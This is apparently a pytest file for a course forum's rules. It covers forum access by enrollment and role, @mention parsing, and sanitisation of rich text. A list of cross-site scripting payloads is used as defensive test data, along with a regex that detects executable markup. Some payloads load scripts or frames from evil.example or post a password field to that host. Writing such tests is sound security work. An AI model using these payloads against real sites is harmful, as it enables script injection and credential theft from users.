"""Decisions of forum, and rich text."""

import re
from uuid import uuid4

import pytest

from libs.common.richtext import as_html, as_text
from services.forum.rules import MOST_MENTIONS, folded, mentioned, mentions_of, standing


def place(**facts):
    return standing(
        **{"staff": False, "platform": False, "known": True, "instructor": False, "enrollment": None} | facts
    )


@pytest.mark.parametrize("status", ["enrolled", "in_progress", "completed"])
def test_who_learns_in_a_course_enters_its_forum(status: str):
    assert place(enrollment=status).may_enter
    assert not place(enrollment=status).may_moderate


@pytest.mark.parametrize("status", [None, "dropped", "waitlisted"])
def test_who_does_not_learn_there_stays_outside(status: str | None):
    assert not place(enrollment=status).may_enter


def test_instructors_and_staff_enter_and_moderate():
    assert place(instructor=True).may_moderate
    assert place(staff=True).may_moderate
    assert place(platform=True).may_enter
    assert not place(platform=True).may_moderate


def test_only_staff_enter_the_forum_of_a_course_that_is_gone():
    assert not place(known=False, instructor=True, enrollment="enrolled").may_enter
    assert place(known=False, staff=True).may_enter


def test_mentions_are_the_names_behind_at_signs():
    text = "@Ada_Lovelace and (@bob), @Ada-Lovelace. Not ada@lectern.example, a@b or @@x. @Zoë! @ @_"
    assert mentioned(text) == ["adalovelace", "bob", "zoë"]
    assert len(mentioned(" ".join(f"@n{n}" for n in range(100)))) == MOST_MENTIONS


def test_a_first_name_counts_only_when_one_person_has_it():
    ada, other, bob = uuid4(), uuid4(), uuid4()
    people = [(ada, "adalovelace", "ada"), (other, "adabyron", "ada"), (bob, "bobdylan", "bob")]
    assert mentions_of(["ada"], people) == []
    assert mentions_of(["ada", "adabyron", "bob", "bobdylan", "nobody"], people) == [other, bob]
    assert folded("Ada  de la Lovelace-King") == "adadelalovelaceking"


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#106;avascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x]( JaVaScRiPt:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](data:text/html,<script>alert(1)</script>)",
    "<iframe src=//evil.example></iframe>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<b style="position:fixed" onclick=alert(1)>x</b>',
    "<x onmouseover=alert(1)>x</x>",
    "<style>@import '//evil.example'</style>",
    "<form action=//evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<<script>script>alert(1)<</script>/script>",
    "<Script>alert(1)</Script>",
    "```\n</code><script>alert(1)</script>\n```",
    "<!--><img src=x onerror=alert(1)>-->",
]
EXECUTES = re.compile(
    r"<\s*(script|svg|iframe|style|form|input|meta|math|object|embed)\b|<[^>]*\son\w+\s*="
    r"|(href|src)\s*=\s*[\"']?\s*(javascript|data):",
    re.IGNORECASE | re.DOTALL,
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_executes_is_served(payload: str):
    for served in (as_html(payload), as_text(payload), as_html(as_text(payload))):
        assert EXECUTES.search(served) is None, served
    assert "(javascript:" not in as_text(payload).replace(" ", "").lower()


@pytest.mark.parametrize(
    "text", ["a < b && b > c", "*x* `<script>`"[:4], "> quoted", "1 <3 &amp; \"'", "```py\nif a<1: ...\n```"]
)
def test_what_holds_no_markup_is_served_as_it_was_written(text: str):
    assert as_text(text) == text


def test_formatting_stays_and_types_of_programs_are_no_tags():
    assert as_text("<b>bold</b> & List<String>, Map<K, V>") == (
        "<b>bold</b> &amp; List&lt;String>, Map&lt;K, V>"
    )
    assert "<strong>sky</strong>" in as_html("the **sky**")
